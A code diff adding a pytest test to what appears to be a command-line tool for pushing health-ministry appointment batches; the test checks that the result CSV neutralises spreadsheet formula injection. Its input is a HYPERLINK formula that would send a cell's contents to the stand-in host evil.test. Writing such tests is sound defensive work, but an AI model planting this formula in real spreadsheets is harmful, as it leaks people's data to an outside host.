@@ -357,3 +357,15 @@ def test_announce_refuses_a_file_without_valid_cids(cli, tmp_path, redis):
     message.write_text(json.dumps(MESSAGE))
     result = cli.invoke(args=["moph", "announce", "--cids", str(cids), "--message", str(message)])
     assert result.exit_code != 0 and "no valid citizen ID" in all_output(result)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])  # (a leading tab or CR is stripped on reading)
+def test_result_csv_cells_open_as_text_not_formulas(cli, tmp_path, moph, redis, start):
+    formula = f'{start}HYPERLINK("https://evil.test/?x="&A1,"ดูผล")'
+    rows = [appointment_row(formula, CIDS[1]), appointment_row("A-2", CIDS[2], clinic=formula)]
+    source = write_csv(tmp_path / "batch.csv", rows)
+    cli.invoke(args=["moph", "push", str(source), "--dry-run"])
+    result_rows = read_result(tmp_path / "batch.result.csv")
+    cells = [value for row in result_rows for value in row.values()]
+    assert result_rows[0]["appointment_id"] == "'" + formula
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
